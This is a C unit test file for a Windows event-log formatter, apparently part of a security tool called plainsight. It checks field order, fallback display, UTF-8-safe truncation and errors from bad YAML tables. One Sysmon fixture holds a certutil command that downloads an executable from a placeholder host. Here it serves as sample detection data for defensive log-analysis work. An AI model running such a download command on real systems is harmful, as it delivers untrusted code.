/* Details (plainsight/details.h): the built-in table, the fallback to every
 * data field, the lead field, the places remembered per layout, bad tables
 * and the one-line, cut-to-fit text. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "plainsight.h"

static ps_field field(const char *path, const char *value)
{
    const char *dot = strrchr(path, '.');
    ps_field f = {path, dot + 1, value, (uint32_t)strlen(path), (uint32_t)strlen(dot + 1),
                  value ? (uint32_t)strlen(value) : 0, PS_KIND_STRING, 0};
    return f;
}

static ps_event event(const ps_field *f, uint32_t n, const char *channel, uint32_t eid,
                      uint64_t layout)
{
    ps_event ev = {.fields = f, .nfields = n, .event_id = eid, .channel = channel,
                   .computer = "", .provider = "", .source = "", .layout = layout};
    return ev;
}

static ps_details *builtin(void)
{
    ps_details *d = NULL;
    char err[256];
    assert_int_equal(ps_details_load(NULL, &d, err, sizeof err), PS_OK);
    assert_non_null(d);
    return d;
}

static const char *format(const ps_details *d, ps_details_scratch *s, const ps_event *ev,
                          const ps_field *lead)
{
    static char buf[512];
    size_t n = ps_details_format(d, s, ev, lead, buf, sizeof buf);
    assert_int_equal(n, strlen(buf));
    return buf;
}

/* A Sysmon process creation: the table's order, System fields and fields it
 * does not name left out. */
static void test_process_creation_key_fields_first(void **state)
{
    (void)state;
    ps_details *d = builtin();
    ps_field f[] = {
        field("Event.System.Channel", "Microsoft-Windows-Sysmon/Operational"),
        field("Event.EventData.UtcTime", "2024-05-01 10:00:00.000"),
        field("Event.EventData.ProcessGuid", "{365ABB72-DFAD-5C67-0000-0010E0811500}"),
        field("Event.EventData.Image", "C:\\Windows\\System32\\certutil.exe"),
        field("Event.EventData.CommandLine", "certutil -urlcache -f http://x/a.exe a.exe"),
        field("Event.EventData.User", "CORP\\alice"),
        field("Event.EventData.ParentImage", "C:\\Windows\\System32\\cmd.exe"),
    };
    ps_event ev = event(f, 7, "Microsoft-Windows-Sysmon/Operational", 1, 0);
    assert_string_equal(format(d, NULL, &ev, NULL),
                        "CommandLine: certutil -urlcache -f http://x/a.exe a.exe \xc2\xa6 "
                        "Image: C:\\Windows\\System32\\certutil.exe \xc2\xa6 "
                        "ParentImage: C:\\Windows\\System32\\cmd.exe \xc2\xa6 User: CORP\\alice");
    ps_details_free(d);
}

/* Not in the table, or none of its fields there: every data field, in the
 * event's order (empty values left out). Channels compare without case. */
static void test_fallback_and_channel_case(void **state)
{
    (void)state;
    ps_details *d = builtin();
    ps_field f[] = {
        field("Event.System.EventID", "1000"),
        field("Event.EventData.Data", "first"),
        field("Event.EventData.Data", ""),
        field("Event.UserData.Thing.Name", "second"),
    };
    ps_event ev = event(f, 4, "Application", 1000, 0);
    assert_string_equal(format(d, NULL, &ev, NULL), "Data: first \xc2\xa6 Name: second");
    ev = event(f, 4, "Security", 4625, 0); /* listed, but with none of its fields */
    assert_string_equal(format(d, NULL, &ev, NULL), "Data: first \xc2\xa6 Name: second");
    ps_field g[] = {field("Event.EventData.IpAddress", "203.0.113.5"),
                    field("Event.EventData.TargetUserName", "bob")};
    ev = event(g, 2, "SECURITY", 4625, 0);
    assert_string_equal(format(d, NULL, &ev, NULL),
                        "TargetUserName: bob \xc2\xa6 IpAddress: 203.0.113.5");
    ps_details_free(d);
}

/* An IOC's field leads, and is not shown twice. */
static void test_lead_field_first(void **state)
{
    (void)state;
    ps_details *d = builtin();
    ps_field f[] = {field("Event.EventData.TargetUserName", "bob"),
                    field("Event.EventData.IpAddress", "203.0.113.5"),
                    field("Event.EventData.LogonType", "3")};
    ps_event ev = event(f, 3, "Security", 4624, 0);
    assert_string_equal(format(d, NULL, &ev, &f[1]),
                        "IpAddress: 203.0.113.5 \xc2\xa6 TargetUserName: bob \xc2\xa6 LogonType: 3");
    ps_details_free(d);
}

/* Events of one layout share the fields' places, not their values; a
 * layout seen with another table is placed again. */
static void test_layout_places_remembered(void **state)
{
    (void)state;
    ps_details *d = builtin();
    ps_details *other = NULL;
    const char *text = "Security:\n  4625: [IpAddress]\n";
    assert_int_equal(ps_details_load_text(text, strlen(text), "t.yml", &other, NULL, 0), PS_OK);
    ps_details_scratch *s = ps_details_scratch_new();
    assert_non_null(s);
    ps_field a[] = {field("Event.EventData.TargetUserName", "alice"),
                    field("Event.EventData.IpAddress", "198.51.100.1")};
    ps_field b[] = {field("Event.EventData.TargetUserName", "bob"),
                    field("Event.EventData.IpAddress", "198.51.100.2")};
    ps_event ea = event(a, 2, "Security", 4625, 42), eb = event(b, 2, "Security", 4625, 42);
    assert_string_equal(format(d, s, &ea, NULL),
                        "TargetUserName: alice \xc2\xa6 IpAddress: 198.51.100.1");
    assert_string_equal(format(d, s, &eb, NULL),
                        "TargetUserName: bob \xc2\xa6 IpAddress: 198.51.100.2");
    assert_string_equal(format(other, s, &eb, NULL), "IpAddress: 198.51.100.2");
    ps_event shorter = event(b, 1, "Security", 4625, 42); /* not the layout's field count */
    assert_string_equal(format(other, s, &shorter, NULL), "TargetUserName: bob");
    ps_details_scratch_free(s);
    ps_details_free(other);
    ps_details_free(d);
}

/* Deferred values are settled as they are shown. */
typedef struct lazy_event {
    ps_event_lazy lazy;
    ps_field *fields;
    int settled;
} lazy_event;

static int settle(ps_event_lazy *lazy, uint32_t i)
{
    lazy_event *le = (lazy_event *)lazy;
    le->fields[i].value = "0x3e7";
    le->fields[i].value_len = 5;
    le->settled++;
    return 0;
}

static void test_deferred_values_settled(void **state)
{
    (void)state;
    ps_details *d = builtin();
    ps_field f[] = {field("Event.EventData.SubjectLogonId", NULL),
                    field("Event.EventData.SubjectUserName", "alice"),
                    field("Event.EventData.SubjectUserSid", NULL)};
    lazy_event le = {{settle}, f, 0};
    ps_event ev = event(f, 3, "Security", 4672, 0);
    ev.lazy = &le.lazy;
    assert_string_equal(format(d, NULL, &ev, NULL),
                        "SubjectUserName: alice \xc2\xa6 SubjectLogonId: 0x3e7");
    assert_int_equal(le.settled, 1); /* the Sid is not shown, so not made */
    ps_details_free(d);
}

/* Cut to fit without half a UTF-8 sequence; on one line. */
static void test_cut_and_one_line(void **state)
{
    (void)state;
    char value[600];
    memset(value, 'a', sizeof value - 1);
    value[sizeof value - 1] = 0;
    for (size_t i = 100; i + 2 < sizeof value - 1; i += 2) /* "é" from here on */
        value[i] = (char)0xC3, value[i + 1] = (char)0xA9;
    value[10] = '\n';
    value[11] = '\t';
    ps_field f[] = {field("Event.EventData.ScriptBlockText", value)};
    ps_event ev = event(f, 1, "Microsoft-Windows-PowerShell/Operational", 4104, 0);
    ps_details *d = builtin();
    char buf[128];
    size_t n = ps_details_format(d, NULL, &ev, NULL, buf, sizeof buf);
    assert_true(n < sizeof buf);
    assert_int_equal(n, strlen(buf));
    for (size_t i = 0; i < n; i++)
        assert_true((unsigned char)buf[i] >= 0x20);
    assert_true(((unsigned char)buf[n - 1] & 0xC0) != 0xC0); /* no lead byte left alone */
    assert_memory_equal(buf, "ScriptBlockText: aaaaaaaaaa  aaa", 32);
    char tiny[1];
    assert_int_equal(ps_details_format(d, NULL, &ev, NULL, tiny, sizeof tiny), 0);
    assert_int_equal(tiny[0], 0);
    ps_details_free(d);
}

static void expect_error(const char *text, int status, const char *where_and_why)
{
    ps_details *d = (ps_details *)1;
    char err[256];
    assert_int_equal(ps_details_load_text(text, strlen(text), "t.yml", &d, err, sizeof err),
                     status);
    assert_null(d);
    if (!strstr(err, where_and_why))
        fail_msg("error '%s' lacks '%s'", err, where_and_why);
}

static void test_bad_tables(void **state)
{
    (void)state;
    expect_error("- Security\n", PS_ERR_FORMAT, "t.yml:1: not a map of channels");
    expect_error("Security:\n  abc: [X]\n", PS_ERR_FORMAT, "t.yml:2: not an event ID: abc");
    expect_error("Security:\n  99999999999: [X]\n", PS_ERR_FORMAT, "t.yml:2: not an event ID");
    expect_error("Security:\n  1: X\n", PS_ERR_FORMAT, "t.yml:2: needs a list of field names");
    expect_error("Security:\n  1: [A, [B]]\n", PS_ERR_FORMAT,
                 "t.yml:2: a field name must be a non-empty string");
    expect_error("Security: [1]\n", PS_ERR_FORMAT, "t.yml:1: needs a map of event IDs");
    expect_error("Security:\n  1: [A]\nsecurity:\n  1: [B]\n", PS_ERR_FORMAT,
                 "t.yml:4: event listed twice: 1");
    expect_error("Security: {1: [A\n", PS_ERR_FORMAT, "t.yml:");
    char many[512] = "Security:\n  1: [F";
    for (int i = 0; i < 32; i++)
        strcat(many, ", F");
    strcat(many, "]\n");
    expect_error(many, PS_ERR_FORMAT, "t.yml:2: more than 32 fields");
    expect_error("System:\n  7045: [A]\n---\nsystem:\n  7045: [B]\n", PS_ERR_FORMAT,
                 "t.yml:5: event listed twice: 7045");
    /* empty tables, documents and comments only: every event shows all fields */
    static const char *const empty[] = {"", "# nothing\n", "---\n...\n", "---\n---\nSystem: {}\n"};
    for (size_t i = 0; i < sizeof empty / sizeof *empty; i++) {
        ps_details *d = NULL;
        assert_int_equal(ps_details_load_text(empty[i], strlen(empty[i]), "e.yml", &d, NULL, 0),
                         PS_OK);
        ps_field f[] = {field("Event.EventData.ServiceName", "x")};
        ps_event ev = event(f, 1, "System", 7045, 0);
        assert_string_equal(format(d, NULL, &ev, NULL), "ServiceName: x");
        ps_details_free(d);
    }
}

static void test_table_file(void **state)
{
    (void)state;
    char path[] = "/tmp/ps-details-XXXXXX";
    int fd = mkstemp(path);
    assert_true(fd >= 0);
    const char *text = "# a comment\nSystem:\n  7045: [ImagePath, ServiceName]\n";
    assert_int_equal(write(fd, text, strlen(text)), (ssize_t)strlen(text));
    close(fd);
    ps_details *d = NULL;
    char err[256];
    assert_int_equal(ps_details_load(path, &d, err, sizeof err), PS_OK);
    ps_field f[] = {field("Event.EventData.ServiceName", "evil"),
                    field("Event.EventData.ImagePath", "C:\\x.exe")};
    ps_event ev = event(f, 2, "System", 7045, 0);
    assert_string_equal(format(d, NULL, &ev, NULL),
                        "ImagePath: C:\\x.exe \xc2\xa6 ServiceName: evil");
    ps_details_free(d);
    unlink(path);
    assert_int_equal(ps_details_load(path, &d, err, sizeof err), PS_ERR_IO);
    assert_non_null(strstr(err, path));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_process_creation_key_fields_first),
        cmocka_unit_test(test_fallback_and_channel_case),
        cmocka_unit_test(test_lead_field_first),
        cmocka_unit_test(test_layout_places_remembered),
        cmocka_unit_test(test_deferred_values_settled),
        cmocka_unit_test(test_cut_and_one_line),
        cmocka_unit_test(test_bad_tables),
        cmocka_unit_test(test_table_file),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
